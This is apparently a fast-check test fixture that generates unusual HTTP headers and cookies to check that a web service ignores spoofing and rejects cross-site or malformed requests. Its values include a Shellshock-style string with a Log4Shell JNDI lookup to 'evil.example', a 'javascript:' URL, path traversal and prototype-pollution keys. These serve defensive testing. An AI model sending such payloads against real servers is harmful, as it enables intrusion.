// Unusual headers: some must change nothing, some must stop a request.
import fc from 'fast-check';

type Headers = Readonly<Record<string, string>>;

/** Headers that must change nothing, whatever their value: host, address, method, path, preferences, identity. */
const ineffective = [
  'X-Forwarded-Host', 'X-Forwarded-Proto', 'Forwarded', 'X-Forwarded-For', 'X-Real-IP', 'True-Client-IP', 'X-HTTP-Method-Override', 'X-HTTP-Method',
  'X-Method-Override', 'X-Original-URL', 'X-Rewrite-URL', 'Accept', 'Accept-Language', 'Accept-Encoding', 'Range', 'If-Range', 'If-Match',
  'If-Unmodified-Since', 'If-Modified-Since', 'Upgrade-Insecure-Requests', 'DNT', 'Authorization', 'Proxy-Authorization', 'X-Request-Id', 'CF-Ray',
  'User-Agent', 'Referer',
]; // prettier-ignore

/** @param isSigned whether the call reads a signature */
export const harmless = (isSigned: boolean): fc.Arbitrary<Headers> =>
  fc.oneof(
    {
      weight: 3,
      arbitrary: fc.dictionary(
        fc.constantFrom(...ineffective, ...(isSigned ? [] : ['Stripe-Signature'])),
        fc.oneof(
          fc.string(),
          fc.constantFrom('evil.example', '127.0.0.1', 'DELETE', '/api/admin/orders', 'bytes=9999-0,-1,a-b', '*', `Bearer ${'x'.repeat(4_000)}`,
            'javascript:alert(1)', '() { :;}; /bin/true ${jndi:ldap://evil.example}', 't=1,v1=00,v0=,t=NaN'), // prettier-ignore
        ),
        { minKeys: 1, noNullPrototype: true },
      ),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom<Headers[]>(
        { 'CF-Connecting-IP': 'fe80::1%eth0::::zzzz' },
        { 'CF-Connecting-IP': '1:'.repeat(4_000) },
        { Upgrade: 'websocket', Connection: 'Upgrade', 'Sec-WebSocket-Key': 'x' },
        { 'Sec-Fetch-Site': 'same-origin' },
        { 'Sec-Fetch-Site': 'none', 'Sec-Fetch-Mode': 'navigate' },
      ),
    },
  );

/** Headers of a request from another site. No write may pass. */
export const foreign: fc.Arbitrary<Headers> = fc.oneof(
  fc
    .constantFrom('https://evil.example', 'null', '', 'https://localhost.evil.example', 'https://localhost:81', 'x"')
    .map((Origin) => ({ Origin })), // prettier-ignore
  fc.webUrl().map((url) => ({ Origin: new URL(url).origin })),
  fc
    .constantFrom('cross-site', 'SAME-ORIGIN', 'same-origin, cross-site')
    .map((site) => ({ 'Sec-Fetch-Site': site })),
  fc.constant({ 'Sec-Fetch-Site': 'same-site', Origin: 'http://other.localhost' }),
);

const header = (name: string, values: readonly string[]): fc.Arbitrary<Headers> =>
  fc.constantFrom(...values).map((value) => ({ [name]: value }));

export const badKeys = header('Idempotency-Key', [
  '', 'short', 'a'.repeat(65), 'a'.repeat(9_000), 'with a space', 'eight\ttab', '"', 'key,key, key', '        ',
]); // prettier-ignore

export const goodKeys = header('Idempotency-Key', ['«key»', `${'!'.repeat(40)}«key»`, `'"\\<>\`«key»`]);

/** Cookies that sign nobody in. */
export const emptyCookies = header('Cookie', [
  '', ';', '=', ';;;=;=;', '__Host-sid', '__Host-sid=', '__Host-sid=;', '__Host-sid=undefined', '__Host-sid="', '__Host-sid=%', '__Host-sid=%00',
  `__Host-sid=${'a'.repeat(43)}`, `__Host-sid=${'a'.repeat(100_000)}`, '__host-sid=«session»', 'sid=«session»', '__Secure-sid=«session»',
  '__Host-sid=«session»x', '__Host-sid=session:«session»', `__Host-code=${'%ff'.repeat(500)}`, '__Host-errand=state=a&nonce=b&verifier=c',
  '__Host-errand=state%3Da%26nonce%3Db%26verifier%3Dc', '__Host-purchase=cs_test_nothing', '__Host-purchase=../../v1/balance', '__Host-change=%F0%9F',
  '__proto__=1; constructor=2; toString=3', 'a'.repeat(50_000), Array.from({ length: 1_000 }, (_, i) => `c${i}=${i}`).join('; '), 'x y=z',
]); // prettier-ignore

/** Cookies that may sign somebody in or not. */
export const mixedCookies = header('Cookie', [
  '__Host-sid=nobody; __Host-sid=«session»', '__Host-sid=«session»; __Host-sid=nobody', ';;; __Host-sid=«session» ;;', '__Host-sid="«session»"',
  `${'x=y; '.repeat(2_000)}__Host-sid=«session»`, '__Host-sid=«session»; __proto__=1',
]); // prettier-ignore
